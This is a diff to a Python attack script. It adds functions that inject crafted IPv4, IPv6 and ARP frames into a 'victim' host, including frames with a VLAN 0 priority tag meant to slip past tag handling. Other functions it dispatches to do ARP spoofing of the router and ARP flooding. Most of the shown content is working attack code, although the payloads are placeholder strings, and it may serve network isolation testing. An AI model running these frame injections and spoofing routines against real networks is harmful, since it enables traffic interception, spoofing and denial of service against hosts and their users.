@@ -137,6 +137,19 @@ def router() -> None:
     end()
 
 
+def plain() -> None:
+    """Send what the victim's kernel would take if it got there."""
+    for target in (THEIRS, ALL):
+        send(target, IPV4, ipv4(udp(b"<IPv4>")))
+        send(target, IPV6, ipv6(udp(b"<IPv6>"), 17))
+        send(target, ARP, arp(1, MINE, MY4, THEIRS, THEIR4) + b"<ARP>")
+
+
+def priority() -> None:
+    """Send IPv4 in frames with a tag of VLAN 0, which the victim's kernel takes as if there were none."""
+    send(THEIRS, IPV4, ipv4(udp(b"<priority tag>")), tags=bytes.fromhex("81000000"))
+
+
 def tags() -> None:
     """Send frames with VLAN tags of all kinds."""
     for text in (
@@ -246,4 +259,5 @@ def flood() -> None:
         send(ROUTER, ARP, arp(2, MINE, address, ROUTER, RESOLVER))
 
 
-{one.__name__: one for one in (neighbours, router, tags, bridges, malformed, flood)}[ATTACK]()
+ATTACKS = (neighbours, router, plain, priority, tags, bridges, malformed, flood)
+{one.__name__: one for one in ATTACKS}[ATTACK]()
